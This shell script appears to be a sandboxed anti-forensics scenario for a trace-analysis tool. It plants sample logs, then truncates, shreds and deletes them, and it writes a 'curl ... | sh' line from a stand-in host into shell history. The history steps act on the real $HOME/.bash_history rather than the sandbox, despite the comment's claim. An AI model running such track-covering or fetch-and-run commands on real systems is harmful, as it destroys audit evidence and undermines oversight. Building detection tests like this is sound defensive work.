#!/bin/sh
# Anti-forensics scenario (scapkit sample trace). Run by sample_traces/scenarios.py in a private
# temporary directory.
#
# The script first plays the system: it writes log files under /var/log (auth.log, syslog,
# wtmp, nginx/access.log, app/*.log). Then the intruder covers tracks: truncates auth.log with
# truncate, empties syslog with a shell redirection, zeroes wtmp with cat /dev/null, shreds
# nginx/access.log, bulk-removes the app logs and the shell history, and links the history to
# /dev/null. /var/log is an empty tmpfs in a private mount namespace (without unshare: ./root/var/log),
# so only files the script created are truncated or removed.
set -u
cd "$(dirname "$0")" || exit 1
if [ -z "${SCN_NS:-}" ]; then
	if unshare --mount --propagation private true 2>/dev/null; then
		SCN_NS=mount exec unshare --mount --propagation private sh "$0" "$@"
	fi
	SCN_NS=none exec sh "$0" "$@"
fi
L=/var/log
if [ "$SCN_NS" = mount ]; then
	mount -t tmpfs -o mode=0755,size=4m scapkit-scenario /var/log
else
	L=$(pwd)/root/var/log
	mkdir -p "$L"
fi

# --- the system writes its logs
mkdir -p "$L/nginx" "$L/app"
i=0
while [ $i -lt 20 ]; do
	echo "Nov 29 04:1$((i % 10)):0$((i % 7)) web sshd[$((4000 + i))]: Accepted password for deploy from 203.0.113.$i port 5$i ssh2" >> "$L/auth.log"
	echo "203.0.113.$i - - [29/Nov/2026:04:10:0$((i % 10)) +0000] \"GET /shell?cmd=id HTTP/1.1\" 200 39" >> "$L/nginx/access.log"
	echo "worker $i: job done" > "$L/app/worker-$i.log"
	i=$((i + 1))
done
echo "Nov 29 04:12:00 web kernel: audit: type=1400 apparmor=DENIED" > "$L/syslog"
head -c 1536 /dev/zero > "$L/wtmp"
echo "curl -s http://203.0.113.7/x | sh" > "$HOME/.bash_history"

# --- the intruder covers tracks
truncate -s 0 "$L/auth.log"
: > "$L/syslog"
cat /dev/null > "$L/wtmp"
shred -u -n 1 "$L/nginx/access.log"
rm -rf "$L"/app/*.log
rm -f "$HOME/.bash_history"
ln -s /dev/null "$HOME/.bash_history"
ls -la "$L"
